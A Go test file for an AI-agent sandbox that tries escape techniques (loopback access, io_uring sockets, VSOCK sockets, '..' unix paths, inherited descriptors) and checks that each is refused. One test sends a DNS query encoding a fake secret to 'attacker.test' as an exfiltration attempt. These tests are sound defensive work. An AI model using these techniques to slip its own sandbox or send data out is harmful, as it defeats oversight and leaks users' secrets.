//go:build linux

package escape

import (
	"errors"
	"fmt"
	"net"
	"net/netip"
	"os"
	"os/exec"
	"path/filepath"
	"strconv"
	"strings"
	"sync"
	"syscall"
	"testing"
	"time"

	"golang.org/x/sys/unix"

	"github.com/aigate-dev/aigate/internal/events"
	"github.com/aigate-dev/aigate/internal/loader"
	"github.com/aigate-dev/aigate/internal/testutil"
	"github.com/aigate-dev/aigate/internal/uring"
)

// The network attacks run this test binary inside the sandbox as a small
// socket tool (the sandbox's shell has no nc: deny_exec refuses it, and the
// VM has no python). Its operations print one line each.
const netToolEnv = "AIGATE_ESCAPE_NET_OPS"

func init() { testutil.HelperOps(netToolEnv, netToolOp) }

// netToolOp runs one operation:
//
//	connect tcp|udp ADDR:PORT  connect (udp: and send a byte); prints the errno
//	sendto ADDR:PORT           sendto from an unconnected UDP socket; the errno
//	serve tcp ADDR:PORT        listen, print "port N" to stdout and to the
//	                           file named by $AIGATE_ESCAPE_PORT_FILE, then
//	                           answer "hi\n" to each client for 60 s
//	bind tcp|udp ADDR:PORT     bind (tcp: and listen), print the errno, close
//	socket FAMILY [dgram]      create a socket of that family; the errno
//	uring-socket FAMILY        the same through io_uring's IORING_OP_SOCKET:
//	                           "setup ERRNO" when io_uring_setup fails
//	unix PATH                  connect a stream socket to PATH; the errno
//	fdsend FD ADDR:PORT        sendto on descriptor FD (one inherited); the errno
//	dnsq ADDR:PORT NAME        send an A query for NAME over UDP: "rcode N"
//	                           for an answer, the errno or "timeout" otherwise
//	recvfd, recvrace, passown, clonefiles: descriptors passed (passfd_test.go)
func netToolOp(args []string) string {
	if len(args) < 2 {
		return fmt.Sprintf("bad op %q", args)
	}
	switch args[0] {
	case "sendto":
		dst, err := netip.ParseAddrPort(args[1])
		if err != nil {
			return err.Error()
		}
		sa, fam := toSockaddr(dst)
		fd, err := unix.Socket(fam, unix.SOCK_DGRAM|unix.SOCK_CLOEXEC, 0)
		if err != nil {
			return errnoText(err)
		}
		defer unix.Close(fd)
		return errnoText(unix.Sendto(fd, []byte("x"), 0, sa))
	case "socket":
		fam, _ := strconv.Atoi(args[1])
		typ := unix.SOCK_STREAM
		if len(args) > 2 && args[2] == "dgram" {
			typ = unix.SOCK_DGRAM
		}
		fd, err := unix.Socket(fam, typ|unix.SOCK_CLOEXEC, 0)
		if err == nil {
			unix.Close(fd)
		}
		return errnoText(err)
	case "fdsend":
		fd, _ := strconv.Atoi(args[1])
		dst, err := netip.ParseAddrPort(args[2])
		if err != nil {
			return err.Error()
		}
		sa, _ := toSockaddr(dst)
		return errnoText(unix.Sendto(fd, []byte("x"), 0, sa))
	case "uring-socket":
		fam, _ := strconv.Atoi(args[1])
		r, err := uring.New(uring.Inline)
		if err != nil {
			return "setup " + errnoText(errors.Unwrap(err))
		}
		defer r.Close()
		fd, err := r.Socket(fam, unix.SOCK_STREAM|unix.SOCK_CLOEXEC, 0)
		if err == nil {
			unix.Close(fd)
		}
		return errnoText(err)
	case "unix":
		fd, err := unix.Socket(unix.AF_UNIX, unix.SOCK_STREAM|unix.SOCK_CLOEXEC, 0)
		if err != nil {
			return errnoText(err)
		}
		defer unix.Close(fd)
		return errnoText(unix.Connect(fd, &unix.SockaddrUnix{Name: args[1]}))
	case "recvfd", "recvrace", "passown", "clonefiles":
		return passFDOp(args)
	case "dnsq":
		if len(args) != 3 {
			return fmt.Sprintf("bad op %q", args)
		}
		return dnsQuery(args[1], args[2])
	case "connect", "bind", "serve":
	default:
		return fmt.Sprintf("bad op %q", args)
	}
	if len(args) != 3 {
		return fmt.Sprintf("bad op %q", args)
	}
	dst, err := netip.ParseAddrPort(args[2])
	if err != nil {
		return err.Error()
	}
	sa, fam := toSockaddr(dst)
	typ := unix.SOCK_STREAM
	if args[1] == "udp" {
		typ = unix.SOCK_DGRAM
	}
	fd, err := unix.Socket(fam, typ|unix.SOCK_CLOEXEC, 0)
	if err != nil {
		return errnoText(err)
	}
	defer unix.Close(fd)
	switch args[0] {
	case "connect":
		if err := unix.Connect(fd, sa); err != nil {
			return errnoText(err)
		}
		if typ == unix.SOCK_DGRAM {
			_, err := unix.Write(fd, []byte("x"))
			return errnoText(err)
		}
		return "0"
	case "bind":
		if err := unix.Bind(fd, sa); err != nil {
			return errnoText(err)
		}
		if typ == unix.SOCK_STREAM {
			return errnoText(unix.Listen(fd, 8))
		}
		return "0"
	}
	// A restarted server binds the port its last connections still hold.
	_ = unix.SetsockoptInt(fd, unix.SOL_SOCKET, unix.SO_REUSEADDR, 1)
	if err := unix.Bind(fd, sa); err != nil {
		return errnoText(err)
	}
	if err := unix.Listen(fd, 8); err != nil {
		return errnoText(err)
	}
	l, err := net.FileListener(os.NewFile(uintptr(fd), "listener"))
	if err != nil {
		return err.Error()
	}
	port := l.Addr().(*net.TCPAddr).Port
	line := fmt.Sprintf("port %d", port)
	if f := os.Getenv("AIGATE_ESCAPE_PORT_FILE"); f != "" {
		if err := os.WriteFile(f, []byte(line+"\n"), 0o644); err != nil {
			return err.Error()
		}
	}
	fmt.Println(line)
	go func() {
		for {
			c, err := l.Accept()
			if err != nil {
				return
			}
			fmt.Fprintln(c, "hi")
			c.Close()
		}
	}()
	time.Sleep(60 * time.Second)
	return "done"
}

func dnsQuery(addr, name string) string {
	dst, err := netip.ParseAddrPort(addr)
	if err != nil {
		return err.Error()
	}
	// A minimal query: id 0x4147, recursion desired, one question, IN A.
	q := []byte{0x41, 0x47, 1, 0, 0, 1, 0, 0, 0, 0, 0, 0}
	for _, label := range strings.Split(strings.TrimSuffix(name, "."), ".") {
		q = append(append(q, byte(len(label))), label...)
	}
	q = append(q, 0, 0, 1, 0, 1)
	sa, fam := toSockaddr(dst)
	fd, err := unix.Socket(fam, unix.SOCK_DGRAM|unix.SOCK_CLOEXEC, 0)
	if err != nil {
		return errnoText(err)
	}
	defer unix.Close(fd)
	if err := unix.Sendto(fd, q, 0, sa); err != nil {
		return errnoText(err)
	}
	_ = unix.SetsockoptTimeval(fd, unix.SOL_SOCKET, unix.SO_RCVTIMEO, &unix.Timeval{Sec: 3})
	buf := make([]byte, 512)
	n, _, err := unix.Recvfrom(fd, buf, 0)
	if err != nil || n < 4 {
		return "timeout"
	}
	return fmt.Sprintf("rcode %d", buf[3]&0xf)
}

func toSockaddr(a netip.AddrPort) (unix.Sockaddr, int) {
	if a.Addr().Is4() {
		return &unix.SockaddrInet4{Addr: a.Addr().As4(), Port: int(a.Port())}, unix.AF_INET
	}
	return &unix.SockaddrInet6{Addr: a.Addr().As16(), Port: int(a.Port())}, unix.AF_INET6
}

// errnoText is "0" for success, the errno's name otherwise (EPERM, ...).
func errnoText(err error) string {
	if err == nil {
		return "0"
	}
	if e, ok := err.(unix.Errno); ok {
		return unix.ErrnoName(e)
	}
	return err.Error()
}

var netTool struct {
	once sync.Once
	path string
	err  error
}

// seccompEvents tells whether the backend reports what the exec helper's
// seccomp filter refuses: BPF LSM refuses those calls itself; on fanotify
// the unix-socket object's sys_exit tracepoint reports the refused calls
// where it loads (Linux 6.7+).
func seccompEvents(t *testing.T, b *box) bool {
	if b.backend == "lsm" {
		return true
	}
	if s := loader.UnixSocketEnforcement(); strings.HasPrefix(s, "none: ") {
		t.Logf("fanotify backend on this kernel: seccomp refusals carry no event (%s)", s)
		return false
	}
	return true
}

// tool returns a shell command that runs the socket tool with ops (";"
// separated), from a copy of this binary that the test user may execute.
func (b *box) tool(ops string) string {
	b.t.Helper()
	netTool.once.Do(func() {
		self, err := os.Executable()
		if err != nil {
			netTool.err = err
			return
		}
		netTool.path = filepath.Join(machine.dir, "nettool")
		netTool.err = copyFile(self, netTool.path, 0o755)
	})
	if netTool.err != nil {
		b.t.Fatal(netTool.err)
	}
	return fmt.Sprintf("%s='%s' %s", netToolEnv, ops, netTool.path)
}

// unixRefused is the errno the tool prints for a refused connect or send
// to a unix socket path: the fanotify backend's program leads the name
// nowhere, so it fails as a missing name does (docs/network.md), the LSM
// backend refuses the socket reached.
func (b *box) unixRefused() string {
	if b.backend == "fanotify" {
		return "ENOENT"
	}
	return "EPERM"
}

// listenOutside is a service of the user's on loopback, outside every
// sandbox (a database, a browser's debugging port): it accepts and closes.
func listenOutside(t *testing.T, network, addr string) uint16 {
	t.Helper()
	if network == "udp" {
		c, err := net.ListenPacket("udp", addr)
		if err != nil {
			t.Fatal(err)
		}
		t.Cleanup(func() { c.Close() })
		return uint16(c.LocalAddr().(*net.UDPAddr).Port)
	}
	l, err := net.Listen("tcp", addr)
	if err != nil {
		t.Fatal(err)
	}
	t.Cleanup(func() { l.Close() })
	testutil.AcceptAll(t, l)
	return uint16(l.Addr().(*net.TCPAddr).Port)
}

// lines returns r's stdout lines.
func (r result) lines() []string { return strings.Split(strings.TrimSpace(r.stdout), "\n") }

// TestEscapeLoopbackOutsideService: the user's own services on loopback
// (here a TCP listener on 127.0.0.1 and on ::1, and a UDP socket) are out
// of the sandbox's reach by default, each attempt refused with an event
// naming allow_loopback; the same from outside the sandbox works (control).
func TestEscapeLoopbackOutsideService(t *testing.T) {
	eachBackend(t, func(t *testing.T, b *box) {
		p4 := listenOutside(t, "tcp", "127.0.0.1:0")
		p6 := listenOutside(t, "tcp", "[::1]:0")
		pu := listenOutside(t, "udp", "127.0.0.1:0")
		ops := fmt.Sprintf("connect tcp 127.0.0.1:%d;connect tcp [::1]:%d;connect tcp 127.0.0.2:%d;connect tcp [::ffff:127.0.0.1]:%d;sendto 127.0.0.1:%d",
			p4, p6, p4, p4, pu)
		r := b.sh(b.tool(ops))
		if got := strings.Join(r.lines(), " "); got != "EPERM EPERM EPERM EPERM EPERM" {
			t.Fatalf("outside services reached: %q\n%s", got, r)
		}
		for _, target := range []string{
			fmt.Sprintf("127.0.0.1:%d", p4), fmt.Sprintf("[::1]:%d", p6),
			fmt.Sprintf("[::ffff:127.0.0.1]:%d", p4), fmt.Sprintf("127.0.0.1:%d", pu),
		} {
			op := events.OpConnect
			if strings.HasSuffix(target, strconv.Itoa(int(pu))) {
				op = events.OpSend
			}
			ev, ok := r.denied(op, target)
			if !ok {
				t.Errorf("no %s event for %s:\n%s", op, target, r)
			} else if ev.RuleText != "allow_loopback: own" {
				t.Errorf("event for %s names rule %q, want allow_loopback: own", target, ev.RuleText)
			}
		}
		out, err := b.outsideRun(b.tool(fmt.Sprintf("connect tcp 127.0.0.1:%d;connect tcp [::1]:%d", p4, p6)))
		if err != nil || strings.Fields(out)[0] != "0" || strings.Fields(out)[1] != "0" {
			t.Fatalf("control outside the sandbox: %q, %v", out, err)
		}
	})
}

// TestEscapeLoopbackOwnServer: what agents do all day still works: a
// server started inside the sandbox (in the background, so another process
// connects to it) is reachable over IPv4 and IPv6 loopback, and again after
// it was stopped and started anew; a loopback port that the policy lists
// is reachable although an outside process serves it.
func TestEscapeLoopbackOwnServer(t *testing.T) {
	eachBackend(t, func(t *testing.T, b *box) {
		listed := listenOutside(t, "tcp", "127.0.0.1:0")
		b.config(fmt.Sprintf("net: deny\nallow_loopback: own\nallow_net:\n  - \"127.0.0.1:%d\"\n", listed))
		portFile := filepath.Join(b.home, "port")
		serve := func(addr string) string {
			return fmt.Sprintf(`rm -f %[1]s; AIGATE_ESCAPE_PORT_FILE=%[1]s %[2]s >/dev/null & pid=$!
i=0; while [ ! -s %[1]s ] && [ $i -lt 200 ]; do sleep 0.05; i=$((i+1)); done
port=$(cut -d' ' -f2 %[1]s)`, portFile, b.tool("serve tcp "+addr))
		}
		script := serve("127.0.0.1:0") + "\n" +
			b.tool("connect tcp 127.0.0.1:'$port'") + "\n" +
			"kill $pid; wait $pid 2>/dev/null\n" +
			strings.Replace(serve("127.0.0.1:0"), "127.0.0.1:0", "127.0.0.1:'$port'", 1) + "\n" +
			b.tool("connect tcp 127.0.0.1:'$port'") + "\n" +
			"kill $pid; wait $pid 2>/dev/null\n" +
			serve("[::1]:0") + "\n" +
			b.tool("connect tcp [::1]:'$port'") + "\n" +
			"kill $pid; wait $pid 2>/dev/null\n" +
			b.tool(fmt.Sprintf("connect tcp 127.0.0.1:%d", listed))
		r := b.sh(script)
		if got := strings.Join(r.lines(), " "); got != "0 0 0 0" {
			t.Fatalf("own servers or the listed port unreachable: %q\n%s", got, r)
		}
		for _, e := range r.events {
			if e.Kind == events.KindNet {
				t.Errorf("unexpected event %+v", e)
			}
		}
	})
}

// localUDPPorts lists the ports of the UDP sockets bound to 127.0.0.1 in
// this network namespace (/proc/net/udp).
func localUDPPorts(t *testing.T) map[uint16]bool {
	t.Helper()
	out := map[uint16]bool{}
	for p := range localUDPSockets(t) {
		out[p] = true
	}
	return out
}

// socketInodes lists the inodes of the sockets process pid holds.
func socketInodes(pid int) map[uint64]bool {
	dir := fmt.Sprintf("/proc/%d/fd", pid)
	entries, _ := os.ReadDir(dir)
	out := map[uint64]bool{}
	for _, e := range entries {
		link, err := os.Readlink(filepath.Join(dir, e.Name()))
		if err != nil {
			continue
		}
		var inode uint64
		if _, err := fmt.Sscanf(link, "socket:[%d]", &inode); err == nil {
			out[inode] = true
		}
	}
	return out
}

// localUDPSockets maps the UDP ports bound on 127.0.0.1 in this network
// namespace to their socket inodes (/proc/net/udp).
func localUDPSockets(t *testing.T) map[uint16]uint64 {
	t.Helper()
	data, err := os.ReadFile("/proc/net/udp")
	if err != nil {
		t.Fatal(err)
	}
	out := map[uint16]uint64{}
	for _, l := range strings.Split(string(data), "\n")[1:] {
		f := strings.Fields(l)
		if len(f) < 10 {
			continue
		}
		addr, port, ok := strings.Cut(f[1], ":")
		if !ok || addr != "0100007F" {
			continue
		}
		p, err := strconv.ParseUint(port, 16, 16)
		inode, err2 := strconv.ParseUint(f[9], 10, 64)
		if err == nil && err2 == nil {
			out[uint16(p)] = inode
		}
	}
	return out
}

// TestEscapeOtherSandboxProxy is the attack: a net: deny sandbox
// (with allow_loopback: all, so that only the proxy rule stands in the way)
// finds the DNS proxy of another sandbox of the same user, one in audit
// mode whose proxy answers every name, and sends it a query carrying data.
// The send is refused with an event, and nothing answers.
func TestEscapeOtherSandboxProxy(t *testing.T) {
	eachBackend(t, func(t *testing.T, a *box) {
		// The proxy reads its upstreams from /etc/resolv.conf and does not
		// start without one; the VM's initramfs has none. Nothing needs to
		// answer there: a proxy that forwards at all would have failed.
		if os.Getenv("AIGATE_VMTEST") == "1" {
			if _, err := os.Stat("/etc/resolv.conf"); os.IsNotExist(err) {
				if err := os.WriteFile("/etc/resolv.conf", []byte("nameserver 127.0.0.1\n"), 0o644); err != nil {
					t.Fatal(err)
				}
				t.Cleanup(func() { os.Remove("/etc/resolv.conf") })
			}
		}
		before := localUDPPorts(t)
		b := newBox(t, a.backend)
		b.config("mode: audit\nnet: deny\n")
		cmd := b.asUser(exec.Command(machine.bin, "run", "--", "sleep", "60"))
		if err := cmd.Start(); err != nil {
			t.Fatal(err)
		}
		t.Cleanup(func() {
			_ = syscall.Kill(-cmd.Process.Pid, syscall.SIGKILL)
			_ = cmd.Wait()
		})
		// The audit sandbox's proxy: a new UDP socket on 127.0.0.1 that
		// the agent holds. (Agents of other tests running beside this one,
		// as in CI's parallel packages, open proxies of their own; each of
		// those refuses a client outside its own sandboxes by itself.)
		var ports []uint16
		for deadline := time.Now().Add(runLimit / 2); len(ports) == 0; {
			held := socketInodes(b.agent.cmd.Process.Pid)
			for p, inode := range localUDPSockets(t) {
				if !before[p] && held[inode] {
					ports = append(ports, p)
				}
			}
			if time.Now().After(deadline) {
				t.Fatal("no proxy of the audit sandbox appeared")
			}
			time.Sleep(50 * time.Millisecond)
		}

		a.config("net: deny\nallow_loopback: all\n")
		var ops []string
		for _, p := range ports {
			ops = append(ops, fmt.Sprintf("dnsq 127.0.0.1:%d exfil-sk-escape-test-secret.attacker.test", p))
		}
		r := a.sh(a.tool(strings.Join(ops, ";")))
		refused := 0
		for i, line := range r.lines() {
			if line == "EPERM" {
				refused++
				if _, ok := r.denied(events.OpSend, fmt.Sprintf("127.0.0.1:%d", ports[i])); !ok {
					t.Errorf("no event for the refused query to port %d:\n%s", ports[i], r)
				}
				continue
			}
			if strings.HasPrefix(line, "rcode") {
				t.Errorf("port %d answered a query from another sandbox: %s\n%s", ports[i], line, r)
			}
		}
		if refused == 0 {
			t.Errorf("no query to the audit sandbox's proxy was refused (ports %v):\n%s", ports, r)
		}
	})
}

// TestEscapeSocketFamilies: an AF_VSOCK socket (a VM guest's line to its
// host) and other families than unix, inet and netlink cannot be created.
// BPF LSM refuses them with an event; on the fanotify backend a seccomp
// filter that the exec helper installs refuses them, without an event
// (seccomp reports none; docs/threat-model.md).
func TestEscapeSocketFamilies(t *testing.T) {
	eachBackend(t, func(t *testing.T, b *box) {
		ops := fmt.Sprintf("socket %d;socket %d dgram;socket %d;socket %d dgram",
			unix.AF_VSOCK, unix.AF_TIPC, unix.AF_UNIX, unix.AF_NETLINK)
		r := b.sh(b.tool(ops))
		got := r.lines()
		if len(got) != 4 || got[2] != "0" || got[3] != "0" {
			t.Fatalf("unix or netlink socket refused: %q\n%s", got, r)
		}
		if got[0] != "EPERM" || got[1] != "EPERM" {
			t.Fatalf("AF_VSOCK %s, AF_TIPC %s: want EPERM\n%s", got[0], got[1], r)
		}
		if !seccompEvents(t, b) {
			return
		}
		vsock := "vsock socket"
		if b.backend != "lsm" {
			vsock = "family 40 socket" // the sys_exit tracepoint has only the number
		}
		for _, what := range []string{vsock, "family 30 socket"} {
			if _, ok := r.denied(events.OpConnect, what); !ok {
				t.Errorf("no event for the %s:\n%s", what, r)
			}
		}
	})
}

// TestEscapeUringSocket: io_uring's IORING_OP_SOCKET runs no seccomp
// filter, so on the fanotify backend io_uring itself is refused by
// default (allow_io_uring); on BPF LSM the ring works and socket_create
// refuses the family with an event. An AF_INET socket is the control.
func TestEscapeUringSocket(t *testing.T) {
	eachBackend(t, func(t *testing.T, b *box) {
		r := b.sh(b.tool(fmt.Sprintf("uring-socket %d;uring-socket %d", unix.AF_VSOCK, unix.AF_INET)))
		got := strings.Join(r.lines(), " ")
		if b.backend != "lsm" {
			if got != "setup EPERM setup EPERM" {
				t.Fatalf("io_uring on the fanotify backend: %q, want io_uring_setup refused\n%s", got, r)
			}
			if _, ok := r.denied(events.OpConnect, "io_uring"); seccompEvents(t, b) && !ok {
				t.Errorf("no event for io_uring_setup:\n%s", r)
			}
			return
		}
		if got != "EPERM 0" {
			t.Fatalf("AF_VSOCK then AF_INET through io_uring: %q, want EPERM 0\n%s", got, r)
		}
		if _, ok := r.denied(events.OpConnect, "vsock socket"); !ok {
			t.Errorf("no event for the vsock socket:\n%s", r)
		}
	})
}

// TestEscapeUringAllowed is the control and the gap: with allow_io_uring:
// true, io_uring works on the fanotify backend, and its socket operation
// creates a socket of a family the seccomp filter refuses to socket(2)
// (docs/threat-model.md). Where the kernel lacks AF_VSOCK the op fails
// with EAFNOSUPPORT, not EPERM.
func TestEscapeUringAllowed(t *testing.T) {
	eachBackend(t, func(t *testing.T, b *box) {
		if b.backend == "lsm" {
			return // allow_io_uring changes nothing there: TestEscapeUringSocket
		}
		b.config("net: deny\nallow_io_uring: true\n")
		r := b.sh(b.tool(fmt.Sprintf("uring-socket %d;uring-socket %d;socket %d", unix.AF_VSOCK, unix.AF_INET, unix.AF_VSOCK)))
		got := r.lines()
		if len(got) != 3 || got[1] != "0" || got[2] != "EPERM" {
			t.Fatalf("allow_io_uring: true: %q, want the ring working, AF_INET created and socket(AF_VSOCK) EPERM\n%s", got, r)
		}
		t.Logf("fanotify, allow_io_uring: true: AF_VSOCK through io_uring: %s", got[0])
		if got[0] == "EPERM" || strings.HasPrefix(got[0], "setup") {
			t.Errorf("AF_VSOCK through io_uring: %s; if the filter now sees it, update docs/threat-model.md", got[0])
		}
	})
}

// TestEscapeUnixDotDot: an allow_unix directory does not open a listener
// outside it to a name that climbs out with "..".
func TestEscapeUnixDotDot(t *testing.T) {
	eachBackend(t, func(t *testing.T, b *box) {
		if b.backend == "fanotify" {
			if s := loader.UnixSocketEnforcement(); strings.HasPrefix(s, "none: ") {
				t.Logf("fanotify backend on this kernel: unix sockets are not confined at all (%s)", s)
				return
			}
		}
		// allowed/ is root's: on fanotify an allow_unix directory the
		// sandbox can write is refused (TestEscapeUnixPlantedLink).
		top := b.rootDir("dotdot")
		if err := os.Mkdir(filepath.Join(top, "allowed"), 0o755); err != nil {
			t.Fatal(err)
		}
		b.mkdir(filepath.Join(top, "out"))
		bus := filepath.Join(top, "out", "bus")
		l, err := net.Listen("unix", bus)
		if err != nil {
			t.Fatal(err)
		}
		t.Cleanup(func() { l.Close() })
		testutil.AcceptAll(t, l)
		if err := os.Chmod(bus, 0o777); err != nil {
			t.Fatal(err)
		}
		b.config(fmt.Sprintf("net: deny\nallow_unix:\n  - %s/allowed/\n", top))
		climb := top + "/allowed/../out/bus"
		r := b.sh(b.tool("unix " + climb))
		if got := strings.Join(r.lines(), " "); got != b.unixRefused() {
			t.Fatalf("%s reached the outside listener: %q\n%s", climb, got, r)
		}
		if _, ok := r.denied(events.OpUnix, "out/bus"); !ok {
			t.Errorf("no unix event:\n%s", r)
		}
	})
}

// TestEscapeInheritedSocket: a UDP socket that whoever started `aigate run`
// left open (created outside the sandbox, so the cgroup programs would
// never see its sends) does not reach the command: the exec helper marks
// every inherited descriptor but stdin, stdout and stderr close-on-exec.
// The same send from outside works (control).
func TestEscapeInheritedSocket(t *testing.T) {
	eachBackend(t, func(t *testing.T, b *box) {
		pc, err := net.ListenPacket("udp", "127.0.0.1:0")
		if err != nil {
			t.Fatal(err)
		}
		t.Cleanup(func() { pc.Close() })
		dst := pc.LocalAddr().String()
		fd, err := unix.Socket(unix.AF_INET, unix.SOCK_DGRAM, 0) // no CLOEXEC: inherited
		if err != nil {
			t.Fatal(err)
		}
		f := os.NewFile(uintptr(fd), "outside-udp")
		t.Cleanup(func() { f.Close() })

		os.Remove(b.events)
		args := []string{"run", "--events", b.events, "--", "sh", "-c", b.tool("fdsend 9 " + dst)}
		cmd := b.asUser(exec.Command(machine.bin, args...))
		// Descriptor 9 in aigate run: high enough that the tool's own
		// descriptors (the Go runtime's) do not take the number.
		extra := []*os.File{nil, nil, nil, nil, nil, nil, f}
		cmd.ExtraFiles = extra
		out, err := cmd.Output()
		if err != nil {
			t.Fatalf("aigate run: %v\n%s", err, out)
		}
		if got := strings.TrimSpace(string(out)); got != "EBADF" {
			t.Fatalf("send on the inherited descriptor 9: %q, want EBADF", got)
		}
		ctl := b.asUser(exec.Command("sh", "-c", b.tool("fdsend 9 "+dst)))
		ctl.ExtraFiles = extra
		if out, err := ctl.Output(); err != nil || strings.TrimSpace(string(out)) != "0" {
			t.Fatalf("outside, the same send: %q %v", out, err)
		}
	})
}
